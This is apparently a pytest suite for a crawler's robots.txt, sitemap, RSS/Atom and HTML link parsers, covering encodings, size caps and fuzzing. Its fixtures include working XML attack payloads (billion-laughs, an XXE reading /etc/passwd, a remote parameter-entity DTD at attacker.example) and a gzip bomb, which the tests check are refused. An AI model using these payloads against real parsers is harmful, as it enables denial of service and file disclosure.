from __future__ import annotations

import gzip
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from thresher.crawl import (
    Discovered,
    extract_links,
    feed_links,
    parse_feed,
    parse_robots_sitemaps,
    parse_sitemap,
)
from thresher.errors import InputError
from thresher.urls import absolute_url, canonicalize

SITE = "https://blog.example/"
SM_NS = "http://www.sitemaps.org/schemas/sitemap/0.9"


def urlset(*entries: str, ns: str = f' xmlns="{SM_NS}"') -> bytes:
    body = "".join(entries)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset{ns}>{body}</urlset>'.encode()


def url_entry(loc: str, lastmod: str | None = None) -> str:
    mod = f"<lastmod>{lastmod}</lastmod>" if lastmod else ""
    return f"<url><loc>{loc}</loc>{mod}<changefreq>weekly</changefreq></url>"


# ------------------------------------------------------------------------------------------ robots.txt


def test_robots_sitemap_lines() -> None:
    text = (
        "\ufeffSITEMAP: https://blog.example/sitemap_index.xml\n"
        "User-agent: *\nDisallow: /css/\n"
        "sitemap:/relative-map.xml   # a comment\n"
        "  Sitemap :  https://blog.example/sitemap_index.xml\n"
        "Sitemap: ftp://blog.example/nope.xml\n"
        "# Sitemap: https://blog.example/commented.xml\n"
        "Disallow: /sitemap: not a directive\n"
    )
    assert parse_robots_sitemaps(text, "https://blog.example/robots.txt") == [
        "https://blog.example/sitemap_index.xml",
        "https://blog.example/relative-map.xml",
    ]


def test_robots_without_sitemaps() -> None:
    assert parse_robots_sitemaps("User-agent: *\nDisallow:\n", SITE) == []
    assert parse_robots_sitemaps("", SITE) == []


# ------------------------------------------------------------------------------------------ sitemaps


def test_sitemap_index_with_namespace_and_stylesheet() -> None:
    data = (
        "<?xml version='1.0' encoding='UTF-8'?><?xml-stylesheet type='text/xsl' href='./map.xsl'?>"
        "<!-- generator comment -->\n"
        f"<sitemapindex xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xmlns='{SM_NS}'>\n"
        "  <sitemap><loc> https://blog.example/sitemap.xml </loc><lastmod>2024-10-20</lastmod></sitemap>\n"
        "  <sitemap><loc>/sitemap1.xml</loc></sitemap>\n"
        "  <sitemap><loc>https://blog.example/sitemap.xml</loc></sitemap>\n"
        "</sitemapindex>"
    ).encode()
    pages, children = parse_sitemap(data, "https://blog.example/sitemap_index.xml")
    assert pages == []
    assert children == ["https://blog.example/sitemap.xml", "https://blog.example/sitemap1.xml"]


def test_urlset_with_namespaces_extensions_and_entities() -> None:
    data = (
        f'<urlset xmlns="{SM_NS}" xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"'
        ' xmlns:xhtml="http://www.w3.org/1999/xhtml">'
        "<url><loc>https://blog.example/a/?utm_source=x&amp;p=1</loc>"
        '<xhtml:link rel="alternate" hreflang="fr" href="https://blog.example/fr/a/"/>'
        "<image:image><image:loc>https://cdn.example/a.png</image:loc></image:image>"
        "<lastmod>2024-10-20T03:49:10.286Z</lastmod></url>"
        "<url><loc>https://blog.example/b/index.html</loc></url>"
        "<url><loc>javascript:alert(1)</loc></url>"
        "<url><lastmod>2024-01-01</lastmod></url>"
        "</urlset>"
    ).encode()
    pages, children = parse_sitemap(data, SITE)
    assert children == []
    assert pages == [
        Discovered("https://blog.example/a/?p=1", datetime(2024, 10, 20, 3, 49, 10, 286000, UTC), "sitemap"),
        Discovered("https://blog.example/b/", None, "sitemap"),
    ]


@pytest.mark.parametrize(
    "root",
    [
        "<urlset><url><loc>https://blog.example/x/</loc></url></urlset>",
        f'<sm:urlset xmlns:sm="{SM_NS}"><sm:url><sm:loc>https://blog.example/x/</sm:loc></sm:url></sm:urlset>',
        '<urlset xmlns="http://www.google.com/schemas/sitemap/0.84">'
        "<url><loc>https://blog.example/x/</loc></url></urlset>",
    ],
)
def test_urlset_any_namespace_or_none(root: str) -> None:
    pages, _ = parse_sitemap(root.encode(), SITE)
    assert [p.url for p in pages] == ["https://blog.example/x/"]


def test_loc_outside_url_entry_is_ignored() -> None:
    data = b"<urlset><loc>https://blog.example/stray/</loc><url><x><loc>https://blog.example/deep/</loc></x></url></urlset>"
    assert parse_sitemap(data, SITE) == ([], [])


def test_bom_and_leading_blank_lines() -> None:
    data = b"\xef\xbb\xbf\n\n  " + urlset(url_entry("https://blog.example/a/"))
    pages, _ = parse_sitemap(data, SITE)
    assert [p.url for p in pages] == ["https://blog.example/a/"]


def test_utf16_sitemap() -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?><urlset><url><loc>https://blog.example/ü/</loc></url></urlset>'
    pages, _ = parse_sitemap(text.encode("utf-16"), SITE)
    assert [p.url for p in pages] == ["https://blog.example/%C3%BC/"]


@pytest.mark.parametrize("encoding", ["gb2312", "windows-1252", "shift_jis"])
def test_declared_encodings_python_decodes(encoding: str) -> None:
    loc = "https://blog.example/?q=" + (
        "中文" if encoding == "gb2312" else "ア" if encoding == "shift_jis" else "é"
    )
    text = f'<?xml version="1.0" encoding="{encoding}"?><urlset><url><loc>{loc}</loc></url></urlset>'
    pages, _ = parse_sitemap(text.encode(encoding), SITE)
    assert len(pages) == 1 and pages[0].url.startswith("https://blog.example/?q=%")


def test_unknown_declared_encoding_is_read_as_utf8() -> None:
    data = b'<?xml version="1.0" encoding="x-nonsense"?><urlset><url><loc>https://blog.example/a/</loc></url></urlset>'
    assert [p.url for p in parse_sitemap(data, SITE)[0]] == ["https://blog.example/a/"]


def test_gzip_detected_by_magic_not_name() -> None:
    data = gzip.compress(urlset(url_entry("https://blog.example/a/", "2024-10-20")))
    pages, _ = parse_sitemap(data, "https://blog.example/sitemap.xml")  # no .gz in the name
    assert pages == [Discovered("https://blog.example/a/", datetime(2024, 10, 20, tzinfo=UTC), "sitemap")]


def test_gzip_multi_member() -> None:
    raw = urlset(url_entry("https://blog.example/a/"))
    data = gzip.compress(raw[:40]) + gzip.compress(raw[40:])
    assert [p.url for p in parse_sitemap(data, SITE)[0]] == ["https://blog.example/a/"]


def test_gzip_bomb_past_the_cap_is_refused() -> None:
    bomb = gzip.compress(b" " * (50 * 1024 * 1024 + 1), compresslevel=9)
    assert len(bomb) < 100_000
    with pytest.raises(InputError, match="larger than"):
        parse_sitemap(bomb, SITE)


def test_size_cap_is_configurable_and_applies_to_plain_bytes() -> None:
    data = urlset(url_entry("https://blog.example/a/"))
    with pytest.raises(InputError):
        parse_sitemap(gzip.compress(data), SITE, max_bytes=len(data) - 1)
    with pytest.raises(InputError):
        parse_sitemap(data, SITE, max_bytes=len(data) - 1)
    assert parse_sitemap(gzip.compress(data), SITE, max_bytes=len(data))[0]


@pytest.mark.parametrize("data", [b"\x1f\x8b\x08\x00garbage", gzip.compress(b"<urlset></urlset>")[:-12]])
def test_corrupt_or_truncated_gzip(data: bytes) -> None:
    with pytest.raises(InputError):
        parse_sitemap(data, SITE)


def test_plain_text_sitemap() -> None:
    data = (
        b"\xef\xbb\xbfhttps://blog.example/a/\r\n\r\n"
        b"  https://blog.example/b/?utm_medium=x  \n"
        b"not a url\n"
        b"ftp://blog.example/c\n"
        b"https://blog.example/a/\n"
        b"http://blog.example/d/ trailing words\n"
    )
    pages, children = parse_sitemap(data, SITE)
    assert children == []
    assert [p.url for p in pages] == [
        "https://blog.example/a/",
        "https://blog.example/b/",
        "http://blog.example/d/",
    ]
    assert {p.source for p in pages} == {"sitemap"} and all(p.lastmod is None for p in pages)


def test_plain_text_cap() -> None:
    data = "\n".join(f"https://blog.example/{i}/" for i in range(60_000)).encode()
    assert len(parse_sitemap(data, SITE)[0]) == 50_000


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2024-10-20", datetime(2024, 10, 20, tzinfo=UTC)),
        ("2024-10-20T11:54:22.856Z", datetime(2024, 10, 20, 11, 54, 22, 856000, UTC)),
        ("2024-10-20T13:54:22+02:00", datetime(2024, 10, 20, 11, 54, 22, tzinfo=UTC)),
        ("2024-10-20T06:54:22.5-05:00", datetime(2024, 10, 20, 11, 54, 22, 500000, UTC)),
        ("2024-10-20T11:54+00:00", datetime(2024, 10, 20, 11, 54, tzinfo=UTC)),
        ("2024-10-20T11:54:22Z", datetime(2024, 10, 20, 11, 54, 22, tzinfo=UTC)),
        ("2024-10", datetime(2024, 10, 1, tzinfo=UTC)),
        ("2024", datetime(2024, 1, 1, tzinfo=UTC)),
        (" 2024-10-20 ", datetime(2024, 10, 20, tzinfo=UTC)),
        ("yesterday", None),
        ("2024-13-45", None),
        ("1850-01-01", None),
    ],
)
def test_lastmod_forms(value: str, expected: datetime | None) -> None:
    pages, _ = parse_sitemap(urlset(url_entry("https://blog.example/a/", value)), SITE)
    assert pages[0].lastmod == expected
    if expected is not None:
        assert pages[0].lastmod is not None and pages[0].lastmod.utcoffset() is not None


def test_protocol_cap_of_50000_urls() -> None:
    data = urlset(*(f"<url><loc>https://blog.example/p/{i}</loc></url>" for i in range(50_010)))
    pages, _ = parse_sitemap(data, SITE)
    assert len(pages) == 50_000
    assert pages[-1].url == "https://blog.example/p/49999"


def test_cap_stops_before_later_malformation() -> None:
    data = urlset(*(url_entry(f"https://blog.example/{i}/") for i in range(3)))[:-5]  # truncated end tag
    with pytest.raises(InputError):
        parse_sitemap(data, SITE)
    assert len(parse_sitemap(data, SITE, max_urls=2)[0]) == 2


def test_duplicate_urls_keep_first() -> None:
    data = urlset(
        url_entry("https://blog.example/a/", "2024-01-01"),
        url_entry("https://blog.example/a/#x", "2024-02-02"),
    )
    pages, _ = parse_sitemap(data, SITE)
    assert pages == [Discovered("https://blog.example/a/", datetime(2024, 1, 1, tzinfo=UTC), "sitemap")]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<urlset><url><loc>https://blog.example/&lol9;</loc></url></urlset>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<urlset><url><loc>https://blog.example/&xxe;</loc></url></urlset>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss><channel><item><link>https://blog.example/a/</link></item></channel></rss>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><item><link>https://blog.example/a/</link></item></channel></rss>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, EXTERNAL_DTD])
def test_dtds_and_entities_are_refused(data: bytes) -> None:
    with pytest.raises(InputError, match="DOCTYPE"):
        parse_sitemap(data, SITE)
    with pytest.raises(InputError, match="DOCTYPE"):
        parse_feed(data, SITE)


def test_dtd_refused_whatever_the_encoding_or_compression() -> None:
    utf16 = (
        BILLION_LAUGHS.decode()
        .replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>')
        .encode("utf-16")
    )
    for data in (utf16, gzip.compress(XXE), b"\xef\xbb\xbf" + XXE):
        with pytest.raises(InputError, match="DOCTYPE"):
            parse_sitemap(data, SITE)


@pytest.mark.parametrize(
    "data",
    [
        b"<urlset><url><loc>https://blog.example/a/</loc></url>",  # never closed
        b"<urlset><url><loc>https://blog.example/a/</url></urlset>",  # mismatched tags
        b"<urlset><url><loc>https://blog.example/?a=1&b=2</loc></url></urlset>",  # bare ampersand
        b"<urlset>\x00</urlset>",
        b"<?xml version='1.0'?>",
    ],
)
def test_malformed_xml_is_input_error_and_partial_results_are_discarded(data: bytes) -> None:
    with pytest.raises(InputError, match="malformed XML"):
        parse_sitemap(data, SITE)


@pytest.mark.parametrize("data", [b"<html><body>Not found</body></html>", b"<!DOCTYPE html><html></html>"])
def test_html_instead_of_a_sitemap(data: bytes) -> None:
    with pytest.raises(InputError):
        parse_sitemap(data, SITE)


def test_empty_or_binary_body_gives_nothing() -> None:
    assert parse_sitemap(b"", SITE) == ([], [])
    assert parse_sitemap(b"\x00\x01\x02binary", SITE) == ([], [])


def test_feed_accepted_as_sitemap() -> None:
    pages, children = parse_sitemap(RSS, "https://blog.example/rss2.xml")
    assert children == [] and pages and {p.source for p in pages} == {"feed"}


# ------------------------------------------------------------------------------------------ feeds

RSS = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel xml:base="https://blog.example/blog/">
  <title>Blog&nbsp;title</title>
  <link>https://blog.example/</link>
  <atom:link href="https://blog.example/rss2.xml" rel="self" type="application/rss+xml"/>
  <image><url>https://blog.example/logo.png</url><link>https://blog.example/image-link/</link></image>
  <item>
    <title>One</title>
    <link>posts/one/?utm_source=rss</link>
    <guid isPermaLink="false">post-1</guid>
    <pubDate>Sun, 20 Oct 2024 13:54:22 +0200</pubDate>
    <description><![CDATA[<p><a href="https://elsewhere.example/">this</a> <link>x</link></p>]]></description>
  </item>
  <item>
    <guid>https://blog.example/posts/two/</guid>
    <pubDate>Sun, 20 Oct 2024 11:54:22 GMT</pubDate>
  </item>
  <item>
    <guid isPermaLink="false">https://blog.example/not-a-permalink/</guid>
    <title>No link at all</title>
  </item>
  <item>
    <link>/posts/three/</link>
    <dc:date>2024-10-20T11:54:22Z</dc:date>
  </item>
  <item>
    <link>https://blog.example/posts/four/</link>
    <pubDate>not a date</pubDate>
  </item>
</channel>
</rss>"""


def test_rss() -> None:
    items = parse_feed(RSS, "https://blog.example/rss2.xml")
    when = datetime(2024, 10, 20, 11, 54, 22, tzinfo=UTC)
    assert items == [
        Discovered("https://blog.example/blog/posts/one/", when, "feed"),
        Discovered("https://blog.example/posts/two/", when, "feed"),
        Discovered("https://blog.example/posts/three/", when, "feed"),
        Discovered("https://blog.example/posts/four/", None, "feed"),
    ]


def test_rss_relative_link_without_xml_base_uses_feed_url() -> None:
    data = b"<rss><channel><item><link>../p/</link></item></channel></rss>"
    assert parse_feed(data, "https://blog.example/feeds/rss.xml")[0].url == "https://blog.example/p/"


def test_rss_1_rdf() -> None:
    data = b"""<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">
      <channel rdf:about="https://blog.example/"><link>https://blog.example/</link></channel>
      <item rdf:about="https://blog.example/r/"><link>https://blog.example/r/</link></item>
    </rdf:RDF>"""
    assert [d.url for d in parse_feed(data, SITE)] == ["https://blog.example/r/"]


ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example/en/">
  <title>Atom</title>
  <link href="https://blog.example/atom.xml" rel="self"/>
  <link href="https://blog.example/"/>
  <updated>2024-10-19T17:34:39.990Z</updated>
  <entry>
    <title>Alternate</title>
    <link rel="self" href="/api/1"/>
    <link rel="enclosure" href="/audio.mp3"/>
    <link rel="alternate" type="text/html" href="one/"/>
    <id>tag:blog.example,2024:1</id>
    <published>2024-10-19T03:37:32.442Z</published>
    <updated>2024-10-19T17:34:39.990+02:00</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><a href="/inner/">in</a></div></content>
  </entry>
  <entry xml:base="/fr/">
    <link href="deux/"/>
    <published>2024-10-19T03:37:32Z</published>
  </entry>
  <entry>
    <id>https://blog.example/by-id/</id>
    <updated>2024-10-19</updated>
  </entry>
  <entry>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
  </entry>
</feed>"""


def test_atom() -> None:
    items = parse_feed(ATOM, "https://blog.example/atom.xml")
    assert items == [
        Discovered("https://blog.example/en/one/", datetime(2024, 10, 19, 15, 34, 39, 990000, UTC), "feed"),
        Discovered("https://blog.example/fr/deux/", datetime(2024, 10, 19, 3, 37, 32, tzinfo=UTC), "feed"),
        Discovered("https://blog.example/by-id/", datetime(2024, 10, 19, tzinfo=UTC), "feed"),
    ]


def test_atom_gzipped() -> None:
    assert len(parse_feed(gzip.compress(ATOM), SITE)) == 3


@pytest.mark.parametrize(
    "data",
    [
        urlset(url_entry("https://blog.example/a/")),
        b"https://blog.example/a/\n",
        b"",
        b"<rss><channel><item><link>x</link></channel></rss>",
    ],
)
def test_parse_feed_refuses_non_feeds(data: bytes) -> None:
    with pytest.raises(InputError):
        parse_feed(data, SITE)


# ------------------------------------------------------------------------------------------ page links

PAGE = """<!doctype html><html><head>
<title>Post</title>
<link rel="stylesheet" href="/css/main.css">
<link rel="icon" href="/favicon.ico">
<link rel="canonical" href="https://blog.example/post/index.html">
<link rel="alternate" type="application/atom+xml" href="/atom.xml" title="Atom">
<link rel="alternate" hreflang="fr" href="/fr/post/">
<link rel="prev" href="/page/1/">
<link rel="next nofollow" href="/page/3/">
</head><body>
<div class="ad"></div>
<link rel="alternate" type="application/rss+xml" href="https://blog.example/rss2.xml">
<a href="/a/#section">A</a>
<a href="#top">top</a>
<a href="/a/">A again</a>
<a href="/b/?utm_source=twitter&amp;id=2&amp;fbclid=zz">B</a>
<a href="javascript:void(0)">js</a>
<a href="mailto:me@blog.example">mail</a>
<a href="tel:+15551234">tel</a>
<a href="ftp://files.example/x">ftp</a>
<a href="https://shop.example/deal" rel="sponsored noopener">deal</a>
<a href="/private/" rel="NoFollow">private</a>
<a href="https://other.example/x">off-site</a>
<a href="/page/4/" rel="next">Next page</a>
<a href>empty</a>
<a href="  /c/  ">C</a>
</body></html>"""


def test_extract_links() -> None:
    found = extract_links(LexborHTMLParser(PAGE), "https://blog.example/post/")
    assert found == [
        Discovered("https://blog.example/post/", None, "canonical"),
        Discovered("https://blog.example/atom.xml", None, "feed"),
        Discovered("https://blog.example/page/1/", None, "next"),
        Discovered("https://blog.example/rss2.xml", None, "feed"),
        Discovered("https://blog.example/a/", None, "link"),
        Discovered("https://blog.example/b/?id=2", None, "link"),
        Discovered("https://other.example/x", None, "link"),
        Discovered("https://blog.example/page/4/", None, "next"),
        Discovered("https://blog.example/c/", None, "link"),
    ]


def test_extract_links_without_honouring_nofollow() -> None:
    urls = {
        d.url
        for d in extract_links(LexborHTMLParser(PAGE), "https://blog.example/post/", honour_nofollow=False)
    }
    assert {
        "https://blog.example/private/",
        "https://shop.example/deal",
        "https://blog.example/page/3/",
    } <= urls


def test_base_href_is_respected() -> None:
    html = '<html><head><base href="https://cdn.example/docs/"></head><body><a href="x/">x</a></body></html>'
    assert [d.url for d in extract_links(LexborHTMLParser(html), "https://blog.example/p/")] == [
        "https://cdn.example/docs/x/"
    ]


def test_meta_robots_nofollow_keeps_only_canonical_and_feeds() -> None:
    html = (
        '<html><head><meta name="Robots" content="noindex, NOFOLLOW">'
        '<link rel="canonical" href="/p/"><link rel="alternate" type="application/rss+xml" href="/rss.xml">'
        '<link rel="next" href="/p/2/"></head><body><a href="/a/">a</a></body></html>'
    )
    tree = LexborHTMLParser(html)
    assert [d.source for d in extract_links(tree, SITE)] == ["canonical", "feed"]
    assert len(extract_links(tree, SITE, honour_nofollow=False)) == 4


_HREFS = st.sampled_from(
    ["/", "/a/./b/../c", "//cdn.example/x", "https://blog.example/a b", "../up/", "x/y", "?q=1", "#f", "/p#f"]
)


@given(st.lists(_HREFS, max_size=6), st.sampled_from(["/", "/a/b/", "/a/b?x=1", "/deep/er/page.html"]))
def test_links_resolve_as_urljoin_does_against_any_page_of_the_site(hrefs: list[str], path: str) -> None:
    """Root-relative and absolute hrefs are resolved once per origin (memoised): the same URLs as
    resolving each against its own page."""
    html = "".join(f'<a href="{h}">x</a>' for h in hrefs)
    page = "https://blog.example" + path
    expected: dict[str, None] = {}
    for href in hrefs:
        url = absolute_url(href, page)
        if url is not None:
            expected.setdefault(canonicalize(url))
    assert [d.url for d in extract_links(LexborHTMLParser(html), page)] == list(expected)


def test_feed_links() -> None:
    assert feed_links(LexborHTMLParser(PAGE), "https://blog.example/post/") == [
        "https://blog.example/atom.xml",
        "https://blog.example/rss2.xml",
    ]
    assert feed_links(LexborHTMLParser("<p>no feeds</p>"), SITE) == []


# ------------------------------------------------------------------------------------------ properties

_XML_PIECES = st.sampled_from(
    [
        "<urlset>", "</urlset>", "<sitemapindex>", "</sitemapindex>", "<url>", "</url>", "<sitemap>",
        "</sitemap>", "<loc>", "</loc>", "<lastmod>", "</lastmod>", "<rss>", "</rss>", "<feed>", "</feed>",
        "<item>", "</item>", "<entry>", "</entry>", "<link>", "</link>", '<link href="', '"/>', '" rel="',
        "<guid>", "</guid>", "<id>", "</id>", "<pubDate>", "</pubDate>", "<updated>", "</updated>",
        ' xml:base="', "https://blog.example/", "http://[::1", "//x", "../", "%ff", "&amp;", "&nbsp;", "&#0;",
        "2024-10-20T11:54:22Z", "Sun, 20 Oct 2024 13:54:22 +0200", "9999-99-99", "<!DOCTYPE x>", "<![CDATA[",
        "]]>", "<?xml version='1.0'?>", "\ufeff", " ", "\n", "é",
    ]
)  # fmt: skip


def _assert_only_input_error(data: bytes) -> None:
    results: list[list[Discovered]] = []
    for parse in (parse_sitemap, parse_feed):
        try:
            found = parse(data, SITE)
        except InputError:
            continue
        results.append(found[0] if isinstance(found, tuple) else found)
    for found in results:
        assert all(d.url.startswith(("http://", "https://")) for d in found)
        assert all(d.lastmod is None or d.lastmod.tzinfo is UTC for d in found)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_arbitrary_bytes_raise_only_input_error(data: bytes) -> None:
    _assert_only_input_error(data)
    _assert_only_input_error(gzip.compress(data))


@settings(max_examples=500, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_XML_PIECES, max_size=40), st.sampled_from(["utf-8", "utf-16", "latin-1"]))
def test_xml_like_documents_raise_only_input_error(pieces: list[str], encoding: str) -> None:
    _assert_only_input_error("".join(pieces).encode(encoding, errors="replace"))
